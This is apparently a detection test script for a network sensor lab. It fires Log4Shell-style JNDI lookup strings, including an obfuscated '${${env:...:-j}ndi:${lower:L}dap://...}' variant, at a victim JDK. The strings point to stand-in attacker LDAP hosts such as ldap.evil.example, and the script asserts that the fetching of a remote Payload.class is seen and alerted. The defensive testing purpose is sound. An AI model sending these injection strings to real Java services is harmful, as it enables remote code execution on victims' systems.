#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""ldap.py SENSOR CLASSES: a JDK asks OpenLDAP for what it should not: references, objects and referrals; anonymous, with a
name and password, and through TLS.
"""
import sys

import lab

SERVER = "ldap://%s:1389/" % lab.ATTACKER
REMOTE, LOCAL, PARCEL, ELSEWHERE = ("cn=%s,dc=lab" % name for name in ("remote", "local", "parcel", "elsewhere"))

ATTACKS = [
    ("${jndi:%s%s}" % (SERVER, REMOTE), None,
     [lab.lookup_of(SERVER + REMOTE), lab.searched(REMOTE), lab.reference(), lab.FETCHED]),
    ("${${env:NOBODY_SETS_IT:-j}ndi:${lower:L}dap://%s/%s}" % (lab.ATTACKER, PARCEL), None,
     [lab.lookup_of("ldap://%s/%s" % (lab.ATTACKER, PARCEL)), lab.searched(PARCEL, port=389), lab.serialized("ldap", "java.util.HashMap")]),
    ("lookup %s%s" % (SERVER, LOCAL), "done Reference", [lab.searched(LOCAL), lab.local_reference()]),
    ("lookup %scn=packed,dc=lab" % SERVER, "done payload-has-run",
     [lab.searched("cn=packed,dc=lab"), lab.reference(codebase=lab.WEB + "payload.jar"), lab.FETCHED_JAR]),
    ("lookup %scn=absent,dc=lab" % SERVER, "done Reference",
     [lab.searched("cn=absent,dc=lab"), lab.reference(factory="Absent", classes={"has": ["Absent"]}), {"fetch": "failed", "java_client": True}]),
    # followed, it is asked for a second time; who follows asks without the control
    ("refer %s%s" % (SERVER, ELSEWHERE), "done payload-has-run",
     [lab.searched(ELSEWHERE, client="jndi-like"), {"stage": "referral", "ldap": {"result_code": "referral", "referrals": {"has": [SERVER + REMOTE + "??base"]}}},
      lab.searched(REMOTE, client="jndi-like"), lab.reference(), lab.FETCHED]),
    ("lookup %s%s cn=reader,dc=lab lab-password" % (SERVER, PARCEL), "done {harmless=yes}",
     [lab.searched(PARCEL), lab.serialized("ldap", "java.util.HashMap")]),
    # what a mistyped password looks like as well: policy
    ("lookup %s%s cn=reader,dc=lab wrong" % (SERVER, PARCEL), "failed javax.naming.AuthenticationException",
     [{"stage": "other", "answer": "refused", "ldap": {"result_code": "invalid_credentials"}}]),
    ("lookup %scn=missing,dc=lab" % SERVER, "failed javax.naming.NameNotFoundException",
     [lab.searched("cn=missing,dc=lab"), {"stage": "callback", "answer": "nothing", "ldap": {"result_code": "no_such_object"}}]),
    ("lookup %sa" % SERVER, "failed javax.naming.InvalidNameException",
     [lab.searched("a"), {"stage": "callback", "answer": "nothing", "ldap": {"result_code": "invalid_dn_syntax"}}]),
    # nothing of the directory is in clear; what comes of it is
    ("lookup ldaps://%s:1636/%s" % (lab.ATTACKER, REMOTE), "done payload-has-run", [lab.FETCHED]),
    ("${jndi:ldaps://ldap.evil.example:1636/%s}" % REMOTE, None,
     [lab.lookup_of("ldaps://ldap.evil.example:1636/" + REMOTE), lab.FETCHED]),
]


WANTED = [x for kind in ("dns", "tls", "ldap", "fileinfo", "flow") for x in ("--set", "outputs.eve-log.types.%s.enabled=yes" % kind)]


def steps_of(sensor, lookup):
    """What was told of the incident that the lookup began: the stages of the alerts that name it."""
    told = [lab.facts(alert) for alert in sensor.alerts()]
    ids = {part["incident"]["id"] for part in told if part.get("lookup") == lookup and "incident" in part}
    return {part["stage"] for part in told if part.get("incident", {}).get("id") in ids}


def records(sensor, kind):
    return [event[kind] for event in sensor.events() if event["event_type"] == kind]


def hidden_callback(program, peers):
    """Of a callback inside TLS there is a name, a hello and a connection; and what was asked in clear is on record."""
    sensor = lab.Sensor(program, "workers: 1", "-s", lab.TOP / "rules/incidents.rules", *WANTED)
    lookup = "ldaps://hidden.evil.example:1636/" + LOCAL  # no name that the victim remembers, nor one of the certificate
    lab.request("${jndi:%s}" % lookup)
    # the name that is asked for, and a JDK's hello at the place that it leads to
    lab.until("the callback of that lookup", lambda: {"lookup", "resolution", "callback"} <= steps_of(sensor, lookup))
    assert peers.victim.ask("lookup %s%s" % (SERVER, REMOTE)).startswith("done")
    sensor.settled()
    hellos = [hello for hello in records(sensor, "tls") if hello.get("sni") == "hidden.evil.example"]
    assert hellos and all(hello["ja4"].startswith("t13d") and len(hello["ja3"]["hash"]) == 32 for hello in hellos), hellos
    told = [part for part in records(sensor, "ldap") if part.get("request", {}).get("search_request", {}).get("base_object") == REMOTE]
    answers = [[answer["operation"] for answer in part["responses"]] for part in told]
    assert answers == [["search_result_entry", "search_result_done"]], told  # a line for the request and its answers
    entry = told[0]["responses"][0]["search_result_entry"]
    values = {part["type"]: part.get("values") for part in entry["attributes"]}
    assert entry["base_object"] == REMOTE and values["javaFactory"] == ["Payload"], entry
    assert {part["request"]["bind_request"]["version"] for part in records(sensor, "ldap") if "bind_request" in part.get("request", {})} == {3}
    assert any(part["rrname"] == "hidden.evil.example" and part["type"] == "answer" for part in records(sensor, "dns"))
    files = [part for part in records(sensor, "fileinfo") if part["filename"] == "/Payload.class"]
    assert files and all(part["state"] == "CLOSED" and part["sha256"] == lab.FETCHED["sha256"] for part in files), files
    sensor.stop()
    flows = [(event.get("app_proto"), event["dest_port"]) for event in sensor.events() if event["event_type"] == "flow"]
    assert {("tls", 1636), ("ldap", 1389), ("http", 8000)} <= set(flows), flows


def main():
    program, classes = sys.argv[1:3]
    lab.enter("curl", "slapd", "slapadd", "openssl", "dnsmasq")
    lab.need_java()
    lab.build_network()
    peers = lab.Peers(classes, names=True)
    sensor = lab.Sensor(program, "workers: 1")
    lab.play(sensor, peers.victim, ATTACKS)
    sensor.stop()
    hidden_callback(program, peers)


if __name__ == "__main__":
    main()
